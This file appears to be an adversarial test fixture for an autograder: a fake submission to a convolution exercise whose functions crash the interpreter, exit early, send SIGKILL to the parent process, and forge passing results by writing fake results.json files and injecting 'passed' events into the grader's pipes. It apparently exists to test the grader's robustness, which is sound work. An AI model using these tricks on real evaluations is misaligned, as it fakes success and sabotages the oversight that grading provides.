"""Hostile ex04: crashes, exits, tries to kill the test process, and forges results.

- conv2d crashes the interpreter (reads address 0);
- conv_output_size calls sys.exit(0);
- conv1d tries to kill its parent and its process group, then answers wrongly;
- im2col prints fake success, writes fake results.json files, tries to push forged
  events into every file descriptor it has and every pipe of its parent, then returns zeros.
xcorr1d is the correct solution and must be graded normally.
"""
import ctypes
import json
import os
import signal
import sys
from pathlib import Path

import torch

from course.exercises.ex04_convolution import *  # noqa: F403  (the correct solutions)
from course.exercises.ex04_convolution import im2col as _correct_im2col

FAKE_REPORT = {"score": 1000, "max_score": 1000, "tests": []}


def conv2d(x, w, bias=None, stride=1, padding=0, dilation=1):
    ctypes.string_at(0)


def conv_output_size(n, k, stride=1, padding=0, dilation=1):
    sys.exit(0)


def conv1d(x, w):
    for action in (lambda: os.kill(os.getppid(), signal.SIGKILL), lambda: os.killpg(0, signal.SIGKILL)):
        try:
            action()
        except OSError:
            pass
    return torch.zeros(len(x) - len(w) + 1, dtype=x.dtype)


def im2col(x, k, stride=1, padding=0, dilation=1):
    print("PASSED test_im2col  score: 1000/1000")
    print(json.dumps({"event": "end", "outcome": "passed"}))
    for folder in (Path.cwd(), Path("/autograder/results")):
        try:
            (folder / "results.json").write_text(json.dumps(FAKE_REPORT))
        except OSError:
            pass
    forged = b"0" * 64 + b' {"event":"end","nodeid":"x","outcome":"passed","message":""}\n'
    for fd in [*range(3, 64), *(Path(f"/proc/{os.getppid()}/fd").glob("*"))]:
        try:
            if isinstance(fd, int):
                os.write(fd, forged)
            else:
                with open(fd, "wb") as pipe:
                    pipe.write(forged)
        except OSError:
            pass
    return torch.zeros_like(_correct_im2col(x, k, stride, padding, dilation))
